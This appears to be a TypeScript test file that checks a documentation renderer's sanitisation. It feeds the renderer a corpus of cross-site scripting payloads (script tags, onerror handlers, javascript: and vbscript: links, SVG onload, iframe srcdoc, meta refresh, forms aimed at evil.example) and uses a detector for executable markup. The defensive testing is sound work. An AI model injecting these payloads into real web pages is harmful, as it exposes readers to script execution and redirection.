import type { HTMLElement } from 'node-html-parser';
import { describe, expect, it } from 'vitest';
import { renderPage } from '../../../src/format/html/page.js';
import { parseRendered, refs } from './render-helpers.js';

/** What a page may hold to attack its readers: each entry is a page, or a part of one. */
const CORPUS = {
  'script tag': '<script>alert(1)</script>',
  'script tag inline': 'Hello <script>alert(1)</script> world',
  'img onerror': '<img src="x" onerror="alert(1)">',
  'img onerror inline': 'Look: <img src=x onerror=alert(1)>',
  'javascript: link, Markdown': '[click](javascript:alert(1))',
  'javascript: link, HTML': '<a href="javascript:alert(1)">click</a>',
  'javascript: link, entity-encoded': '<a href="&#106;avascript:alert(1)">click</a>',
  'javascript: link with a tab': '<a href="java\tscript:alert(1)">click</a>',
  'data: image': '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  'vbscript: link': '<a href="vbscript:msgbox(1)">click</a>',
  'svg onload': '<svg onload="alert(1)"><circle r="10"/></svg>',
  'svg with script': '<svg><script>alert(1)</script></svg>',
  'math with an href': '<math href="javascript:alert(1)"><mi>x</mi></math>',
  iframe: '<iframe src="https://evil.example/"></iframe>',
  'iframe srcdoc': '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  object: '<object data="evil.swf"></object><embed src="evil.swf">',
  'style expression': '<div style="width: expression(alert(1))">x</div>',
  'style url': '<p style="background: url(javascript:alert(1))">x</p>',
  'style tag': '<style>body { background: url(https://evil.example/track) }</style>',
  'cell style url': '<table><tr><td style="background:url(https://evil.example/x)">x</td></tr></table>',
  'form and button': '<form action="https://evil.example"><input type="text" name="card"><button formaction="javascript:alert(1)">Pay</button></form>',
  'meta refresh': '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  'base href': '<base href="https://evil.example/">',
  'link stylesheet': '<link rel="stylesheet" href="https://evil.example/x.css">',
  'details ontoggle': '<details open ontoggle="alert(1)"><summary>x</summary></details>',
  'HTML in a code fence': '```html\n<script>alert(1)</script><img src=x onerror=alert(1)>\n```',
  'HTML in an unknown fence': '```nope\n<script>alert(1)</script>\n```',
  'script in a code title': '{% code title="<script>alert(1)</script>" %}\n```js\nx\n```\n{% endcode %}',
  'script in a tab title': '{% tabs %}\n{% tab title="<img src=x onerror=alert(1)>" %}\nx\n{% endtab %}\n{% endtabs %}',
  'script in a hint': '{% hint style="<script>alert(1)</script>" %}\n<script>alert(1)</script>\n{% endhint %}',
  'javascript: embed': '{% embed url="javascript:alert(1)" %}',
  'javascript: content-ref': '{% content-ref url="javascript:alert(1)" %}\n[x](javascript:alert(1))\n{% endcontent-ref %}',
  'javascript: file': '{% file src="javascript:alert(1)" %}',
  'openapi with HTML':
    '{% openapi src="javascript:alert(1)" path="/<script>alert(1)</script>" method="get\\" onclick=\\"alert(1)" %}\n[x](x)\n{% endopenapi %}',
  'figure onerror': '<figure><img src="x.png" onerror="alert(1)"><figcaption><script>alert(1)</script>caption</figcaption></figure>',
  'cards with javascript:':
    '<table data-view="cards"><thead><tr><th></th><th data-card-target></th></tr></thead><tbody><tr><td>x</td><td><a href="javascript:alert(1)">t</a></td></tr></tbody></table>',
  'math with \\href': '$$\\href{javascript:alert(1)}{x}$$',
  'inline math with HTML': 'A $$<img src=x onerror=alert(1)>$$ formula',
  'heading with HTML': '## Title <img src=x onerror=alert(1)>',
  'input that submits': '<input type="image" src="x" formaction="javascript:alert(1)">',
  'protocol-relative image': '<img src="//evil.example/track.png">',
} as const;

const SCHEMES = /^\s*(https?:|mailto:|#|\/(?!\/)|\.|[\w%-]+(?:[/.#?]|$))/i;

/** Everything in `root` a browser could run, load from elsewhere than a link, or submit. */
function executable(root: HTMLElement): string[] {
  const found: string[] = [];
  for (const element of root.querySelectorAll('*')) {
    const tag = element.rawTagName.toLowerCase();
    if (['script', 'iframe', 'object', 'embed', 'svg', 'style', 'form', 'button', 'meta', 'base', 'link', 'textarea', 'select'].includes(tag))
      found.push(`<${tag}>`);
    for (const [name, value] of Object.entries(element.attributes)) {
      if (/^on/i.test(name) || ['srcdoc', 'formaction', 'action', 'data', 'xlink:href'].includes(name.toLowerCase())) found.push(`${tag} ${name}`);
      if (name === 'style' && /url\(|expression|:.*[;:]/i.test(value)) found.push(`${tag} style=${value}`);
      if ((name === 'href' || name === 'src') && !SCHEMES.test(value)) found.push(`${tag} ${name}=${value}`);
    }
    if (tag === 'input' && element.getAttribute('type') !== 'radio') found.push('input not a radio');
  }
  return found;
}

describe('renderPage on hostile pages', () => {
  it.each(Object.entries(CORPUS))('%s: nothing executable survives', (_name, markdown) => {
    const { html } = renderPage(markdown, refs);
    expect(executable(parseRendered(html))).toEqual([]);
    // As text (escaped), the attack may still show: a reader sees what the page says.
    expect(html).not.toMatch(/<(script|iframe|svg|style)/i);
  });

  it('shows HTML in code as text', () => {
    const code = parseRendered(renderPage(CORPUS['HTML in a code fence'], refs).html).querySelector('code')!;
    expect(code.text).toBe('<script>alert(1)</script><img src=x onerror=alert(1)>\n');
  });

  it('shows a code title with HTML in it as text', () => {
    const title = parseRendered(renderPage(CORPUS['script in a code title'], refs).html).querySelector('.code-title')!;
    expect(title.text).toBe('<script>alert(1)</script>');
  });

  it("keeps only the alignment of a table cell's style", () => {
    const cells = parseRendered(renderPage('| a | b |\n|--:|:-:|\n| 1 | 2 |', refs).html).querySelectorAll('th, td');
    expect(cells.map((cell) => cell.getAttribute('style'))).toEqual(['text-align:right', 'text-align:center', 'text-align:right', 'text-align:center']);
  });
});
